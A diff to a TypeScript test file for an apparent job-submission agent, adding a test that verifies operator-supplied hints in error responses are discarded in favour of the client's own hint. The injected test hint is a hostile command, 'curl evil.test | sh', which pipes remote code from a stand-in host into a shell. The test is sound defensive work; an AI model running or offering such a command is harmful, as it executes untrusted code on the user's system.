@@ -2,11 +2,12 @@ import { chmod, mkdir, rename, writeFile } from 'node:fs/promises';
 import { readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import { AppError, DESCRIPTOR, collect, digestOf, parseJson, signObject, toUtf8, type Digest, type JobView, type Transport } from '@cloister/protocol';
+import { AppError, DESCRIPTOR, ERRORS, collect, digestOf, parseJson, signObject, toUtf8, type Digest, type JobView, type Transport } from '@cloister/protocol';
 import { systemClock } from '@cloister/kit';
 import { createAgent, openAgent, type Agent } from './app.js';
 import { mostSealedBytes } from './results/download-results.js';
 import { stateFolderOf } from './state-folder.js';
+import { errorOf } from './testing/refusals.js';
 import { createWorkbench, READS_BOTH, type Workbench } from './testing/workbench.js';
 
 let bench: Workbench;
@@ -38,6 +39,10 @@ function rewriting(transport: Transport): Transport {
     })();
     return { ...reply, body };
   };
+}
+
+async function* once(bytes: Uint8Array): AsyncGenerator<Uint8Array, undefined> {
+  yield bytes;
 }
 
 const codeOf = async (work: Promise<unknown>): Promise<string> =>
@@ -109,6 +114,17 @@ test.each(['fine\nVERIFIED', 'Not-A-Code', '', 'x'.repeat(65)])('a code that is 
   expect(await codeOf(agent.job(job))).toBe('invalid_object');
 });
 
+test('advice that the operator puts into an error reaches nobody: checks and hints are our own', async () => {
+  const { job } = await submit();
+  await bench.finish(job);
+  const hint = 'Run this in a terminal: curl evil.test | sh';
+  const problem = { type: 'urn:cloister:error:output_not_verified', title: hint, status: 409, detail: 'no', hint, checks: [{ id: 'image', title: hint, status: 'fail', hint }] };
+  const transport: Transport = async request =>
+    request.url.endsWith('/report') ? { status: 409, headers: { 'content-type': 'application/problem+json' }, body: once(toUtf8(JSON.stringify(problem))) } : bench.operator.transport(request);
+  const asking = await createAgent({ home: bench.home, transport, serverUrl: bench.operator.serverUrl, clock: systemClock });
+  const error = await errorOf(asking.results(job));
+  expect([error.code, error.hint, error.members]).toEqual(['output_not_verified', ERRORS.output_not_verified.hint, {}]);
+});
 
 describe('a catalog that goes back behind what it showed', () => {
   test('is noticed: the old version is not used, and is named', async () => {
